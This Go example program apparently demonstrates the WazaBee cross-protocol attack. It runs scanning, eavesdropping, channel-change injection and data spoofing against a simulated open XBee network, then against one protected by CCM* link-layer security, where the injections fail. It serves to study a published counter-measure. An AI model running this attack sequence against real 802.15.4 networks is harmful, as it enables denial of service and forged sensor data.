// Hardened network: the section VII cryptographic counter-measure in
// action. The same scenario B attack runs twice — once against the open
// XBee network of the paper's setup (full takeover), once against the
// same network with CCM* link-layer security (reconnaissance still
// works, every injection fails).
package main

import (
	"fmt"
	"io"
	"log"
	"os"

	"wazabee"
	"wazabee/internal/ieee802154"
)

const sps = 8

func main() {
	if err := run(os.Stdout); err != nil {
		log.Fatal(err)
	}
}

func newTracker(network *wazabee.VictimNetwork) (*wazabee.Tracker, error) {
	model := wazabee.NRF51822()
	tx, err := wazabee.NewTransmitter(model, sps)
	if err != nil {
		return nil, err
	}
	rx, err := wazabee.NewReceiver(model, sps)
	if err != nil {
		return nil, err
	}
	return wazabee.NewTracker(tx, rx, network)
}

func attackOnce(w io.Writer, network *wazabee.VictimNetwork, label string) error {
	tracker, err := newTracker(network)
	if err != nil {
		return err
	}
	fmt.Fprintf(w, "--- %s ---\n", label)

	info, err := tracker.ActiveScan(ieee802154.Channels())
	if err != nil {
		fmt.Fprintln(w, "scan:        failed:", err)
		return nil
	}
	fmt.Fprintf(w, "scan:        found PAN %#04x on channel %d\n", info.PAN, info.Channel)

	sensor, err := tracker.Eavesdrop(info, 5)
	if err != nil {
		fmt.Fprintln(w, "eavesdrop:   failed:", err)
		return nil
	}
	fmt.Fprintf(w, "eavesdrop:   sensor address %#04x\n", sensor)

	if err := tracker.InjectChannelChange(info, sensor, 25); err != nil {
		fmt.Fprintln(w, "AT inject:   REJECTED —", err)
	} else {
		fmt.Fprintf(w, "AT inject:   sensor moved to channel %d (DoS)\n", network.Sensor.Channel)
	}

	if err := tracker.SpoofData(info, sensor, 6666); err != nil {
		fmt.Fprintln(w, "spoof:       REJECTED —", err)
	} else {
		last, _ := network.Coordinator.LastReading()
		fmt.Fprintf(w, "spoof:       coordinator displays forged value %d\n", last.Value)
	}
	fmt.Fprintln(w)
	return nil
}

func run(w io.Writer) error {
	open, err := wazabee.NewVictimNetwork(100, sps, 25)
	if err != nil {
		return err
	}
	if err := attackOnce(w, open, "open network (paper's setup)"); err != nil {
		return err
	}

	secured, err := wazabee.NewVictimNetwork(101, sps, 25)
	if err != nil {
		return err
	}
	if err := secured.Secure([]byte("sixteen byte key"), ieee802154.SecEncMIC64); err != nil {
		return err
	}
	if err := attackOnce(w, secured, "secured network (CCM*, section VII counter-measure)"); err != nil {
		return err
	}

	fmt.Fprintln(w, "note: the attacker still modulates valid 802.15.4 frames either way —")
	fmt.Fprintln(w, "cryptography rejects them at the MAC layer, and jamming-style denial of")
	fmt.Fprintln(w, "service remains possible, exactly as the paper cautions.")
	return nil
}
